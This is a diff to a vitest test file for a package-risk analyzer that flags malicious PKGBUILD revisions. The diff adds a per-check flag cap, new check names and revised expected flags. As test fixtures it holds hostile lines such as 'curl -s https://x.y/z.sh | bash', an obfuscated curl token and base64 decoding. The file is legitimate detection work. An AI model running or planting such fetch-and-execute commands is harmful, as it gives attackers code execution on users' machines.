@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { CHECKS, RISK_CHECKS, analyzeRisk, compareFlags, type RiskFlag } from './index.js';
+import { CHECKS, MAX_FLAGS_PER_CHECK, RISK_CHECKS, analyzeRisk, compareFlags, type RiskFlag } from './index.js';
 import { NOW, brief, high, lineOf, meta, riskInput, sha } from './fixtures/helpers.js';
 import { PYTHON_PKG, WIDGET_GIT, fancySums, fancytool, slinkyBin } from './fixtures/packages.js';
 
@@ -118,16 +118,31 @@ describe('analyzeRisk on malicious revisions', () => {
     const pb = cand.PKGBUILD;
     expect(brief(flags)).toEqual([
       { check: 'maintainer-change', severity: 'high' },
-      { check: 'install-scriptlet', severity: 'high', file: '.fancytool.install', line: 1 },
       { check: 'persistence', severity: 'high', file: '.fancytool.install', line: 2 },
-      { check: 'install-scriptlet', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'install=') },
       { check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, "'c''u''r''l'") },
       { check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'curl -s https://x.y/z.sh | bash') },
       { check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'base64 -d') },
       { check: 'young-revision', severity: 'medium' },
+      { check: 'install-scriptlet', severity: 'medium', file: '.fancytool.install', line: 2 },
       { check: 'binary-or-large-file', severity: 'medium', file: 'payload.bin' },
     ]);
     expect(flags.every((f) => f.reason.endsWith('.'))).toBe(true);
+  });
+});
+
+describe('analyzeRisk on a flood of lines', () => {
+  it('caps the flags of one check and sums up the rest in one flag', () => {
+    const cand = fancytool({ packageExtra: Array.from({ length: 120 }, (_, i) => `curl -s https://x.y/${i}.sh | bash`) });
+    const flags = analyzeRisk(riskInput(cand, fancytool()));
+    const run = flags.filter((f) => f.check === 'download-and-run');
+    expect(run).toHaveLength(MAX_FLAGS_PER_CHECK + 1);
+    expect(run.filter((f) => f.line === undefined)).toEqual([
+      {
+        check: 'download-and-run',
+        severity: 'high',
+        reason: `download-and-run found ${120 - MAX_FLAGS_PER_CHECK} more lines like the ones above; review the whole file.`,
+      },
+    ]);
   });
 });
 
@@ -158,9 +173,13 @@ describe('RISK_CHECKS', () => {
       'maintainer-change',
       'install-scriptlet',
       'sources',
+      'foreign-code-run',
       'checksums',
       'package-managers',
       'download-and-run',
+      'network-fetch',
+      'exfiltration',
+      'assembled-command',
       'obfuscation',
       'persistence',
       'binary-or-large-file',
